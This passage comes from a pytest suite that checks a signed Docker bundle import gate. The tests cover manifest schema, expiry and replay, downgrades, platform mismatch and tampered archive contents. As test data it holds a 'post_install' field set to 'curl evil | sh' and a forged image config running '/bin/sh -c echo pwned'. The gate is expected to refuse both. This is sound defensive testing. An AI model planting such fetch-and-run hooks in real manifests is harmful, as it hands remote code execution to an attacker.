    v.manifest["post_install"] = "curl evil | sh"
    gate.refused(v.write(gate.path("unknown-field")), "manifest", "fails its schema")


def test_signed_manifest_whose_image_id_is_not_its_config_digest_is_refused(gate):
    v = gate.variant()
    other = "sha256:" + sha256(b"another image config")
    v.manifest["images"][0]["id"] = other
    gate.refused(v.write(gate.path("wrong-id")), "manifest", f"its config is not in the payload with digest {other}",
                 watch_ids={other})


def test_signed_manifest_listing_a_file_sha256sums_does_not_is_refused(gate):
    v = gate.variant()
    v.sums = fmt.format_sha256sums([(fmt.MANIFEST, sha256(v.final_manifest()))]
                                   + [(p["path"], p["sha256"]) for p in v.manifest["payload"][1:]])
    gate.refused(v.write(gate.path("sums-short")), "manifest", "SHA256SUMS and manifest.json list different files")


@pytest.mark.parametrize("field, value", [("expires", "2027-13-45T99:99:99Z"), ("created", "2026-02-30T00:00:00Z")])
def test_signed_manifest_with_an_impossible_timestamp_is_refused(gate, field, value):
    v = gate.variant()
    v.manifest[field] = value
    gate.refused(v.write(gate.path("bad-time")), "manifest", field)


# =============================================================================================
# rule 5: fit and freshness
# =============================================================================================

def test_expired_bundle_is_refused(gate):
    v = gate.variant()
    now = utc_now()
    v.manifest["created"], v.manifest["expires"] = format_ts(plus(now, -86400)), format_ts(plus(now, -60))
    gate.refused(v.write(gate.path("expired")), "expiry", f"bundle expired at {v.manifest['expires']}")


def test_bundle_created_in_the_future_is_refused(gate):
    v = gate.variant()
    now = utc_now()
    v.manifest["created"], v.manifest["expires"] = format_ts(plus(now, 3600)), format_ts(plus(now, 30 * 86400))
    gate.refused(v.write(gate.path("future")), "created", "in the future")


def test_bundle_created_within_the_clock_skew_is_accepted(verify_only_gate):
    g = verify_only_gate
    v = g.variant()
    v.manifest["created"] = format_ts(plus(utc_now(), 60))
    r = g.verify(v.write(g.path("skew")))
    assert r.code == 0, str(r)


def test_replayed_bundle_is_refused(gate):
    gate.record_installed(5)
    gate.refused(gate.base.path, "sequence", f"replay: {gate.base.name} sequence 5 is not above 5")


def _import_for_real_then_replay(gate, app_name: str, container_name: str) -> None:
    """A real import (gate, load, swap) of a variant with its own app and container names; the same
    bundle again is "already installed" (exit 0, nothing changed, issue 20), another bundle with the
    same sequence is refused as a replay; everything is removed afterwards."""
    v = gate.variant()
    v.manifest["name"] = app_name
    v.manifest["target"]["name"] = container_name   # its own container: the installed app stays as it is
    bundle = v.write(gate.path("real"))
    with imported_for_real(gate, bundle, container_name):
        assert gate.client.images.get(gate.base.image["id"]).id == gate.base.image["id"]
        assert StateDir(gate.state_dir).highest_sequence(app_name) == 5, \
            f"the import recorded no sequence for {app_name}: {sorted(snapshot_dir(gate.state_dir / 'sequences'))}"
        before = gate.client.api.inspect_container(container_name)
        again = gate.import_(bundle)
        assert again.code == 0 and "is already installed: nothing loaded or changed" in again.stdout, str(again)
        after = gate.client.api.inspect_container(container_name)
        assert (after["Id"], after["State"]["StartedAt"]) == (before["Id"], before["State"]["StartedAt"])
        other = gate.variant()
        other.manifest.update(name=app_name, version="2.0.1")
        other.manifest["target"]["name"] = container_name
        gate.refused(other.write(gate.path("same-sequence")), "sequence", f"replay: {app_name} sequence 5 is not above 5")
    assert gate.base.image["id"] not in EngineSnapshot.take(gate.client, container_name).image_ids


def test_reimporting_a_really_installed_bundle_is_already_installed_and_another_of_its_sequence_a_replay(gate, uniq):
    name = f"{gate.base.target_name}-real-{uniq}"
    _import_for_real_then_replay(gate, name, name)


def test_replay_is_refused_also_when_the_app_and_its_container_are_named_differently(gate, uniq):
    _import_for_real_then_replay(gate, f"{gate.base.target_name}-app-{uniq}", f"{gate.base.target_name}-ctr-{uniq}")


def test_older_sequence_is_refused_as_a_downgrade(gate):
    gate.record_installed(7)
    gate.refused(gate.base.path, "sequence", f"downgrade: {gate.base.name} sequence 5 is not above 7")


def test_highest_sequence_ever_installed_is_the_mark_not_the_current_one(gate):
    state = StateDir(gate.state_dir)
    state.raise_sequence(gate.base.name, 6)
    state.record_installed(gate.base.name, {"sequence": 3, "container": gate.base.target_name})  # rolled back since
    gate.refused(gate.base.path, "sequence", "sequence 5 is not above 6")


def test_allow_downgrade_accepts_an_older_sequence(gate):
    gate.record_installed(7)
    r = gate.verify(gate.base.path, "--allow-downgrade")
    assert r.code == 0, str(r)
    accepted = "downgrade allowed by --allow-downgrade: accepting sequence 5 below 7, the highest installed"
    assert f"note: {accepted}" in r.stdout
    r = gate.import_(gate.base.path, "--allow-downgrade", "--dry-run")
    assert r.code == 0, str(r)
    assert f"note: {accepted}" in r.stdout  # the import's plan says what it accepts
    assert gate.base.image["id"] not in EngineSnapshot.take(gate.client, gate.base.target_name).image_ids
    event = json.loads((gate.state_dir / "audit.log").read_text().splitlines()[-1])
    assert event["result"] == "dry-run" and event["bundle"]["sequence"] == 5


def test_bundle_for_another_platform_is_refused(gate):
    v = gate.variant()
    v.manifest["platform"] = "linux/arm64"
    v.manifest["images"][0]["platform"] = "linux/arm64"
    gate.refused(v.write(gate.path("arm64")), "platform", "bundle is for linux/arm64, this engine is linux/amd64")


def test_image_for_another_platform_than_the_bundle_is_refused(gate):
    v = gate.variant()
    v.manifest["images"][0]["platform"] = "linux/arm64"
    gate.refused(v.write(gate.path("image-arm64")), "platform", "is linux/arm64, the bundle says linux/amd64")


# =============================================================================================
# the docker archive inside the signed payload (checked before `docker load`)
# =============================================================================================

def archive_variant(gate, edit) -> tuple:
    v = gate.variant()
    m = v.member(fmt.DOCKER_ARCHIVE_MANIFEST)
    entries = json.loads(m.data)
    extra = edit(v, entries)
    m.data = fmt.dumps_canonical(entries)
    v.relist()
    return v, extra


def _unsigned_config(v, entries):
    config = json.loads(v.member(v.manifest["images"][0]["config"]).data)
    config["config"]["Cmd"] = ["/bin/sh", "-c", "echo pwned"]
    raw = json.dumps(config).encode()
    name = f"{sha256(raw)}.json"
    v.members.insert(0, Member(fmt.PAYLOAD_PREFIX + name, raw))
    entries[0]["Config"] = name
    return "sha256:" + sha256(raw)


def test_docker_archive_loading_a_config_that_is_no_signed_image_is_refused(gate):
    v, forged_id = archive_variant(gate, _unsigned_config)
    gate.refused(v.write(gate.path("archive-config")), "docker archive", "whose digest is no signed image ID",
                 verify=False, watch_ids={forged_id})


def test_docker_archive_tagging_an_unrelated_image_is_refused(gate):
    """The archive would move the installed version's tag (docker load moves tags silently)."""
    def retag(v, entries):
        entries[0]["RepoTags"] = [gate.base.image["ref"], gate.installed.ref]

    v, _ = archive_variant(gate, retag)
    gate.refused(v.write(gate.path("archive-tag")), "docker archive", f"tags {gate.installed.ref}", verify=False)
    assert gate.client.images.get(gate.installed.ref).id == gate.installed.image_id


def test_docker_archive_with_other_layers_than_signed_is_refused(gate):
    def drop_layer(v, entries):
        entries[0]["Layers"] = entries[0]["Layers"][:-1]

    v, _ = archive_variant(gate, drop_layer)
    gate.refused(v.write(gate.path("archive-layers")), "docker archive", "other layers than signed", verify=False)


def test_verify_also_refuses_a_docker_archive_that_tags_an_unrelated_image(verify_only_gate):
    g = verify_only_gate

    def retag(v, entries):
        entries[0]["RepoTags"] = [g.base.image["ref"], "busybox:latest"]

    v, _ = archive_variant(g, retag)
    r = g.verify(v.write(g.path("archive-tag-verify")))
    assert r.code == 3, str(r)
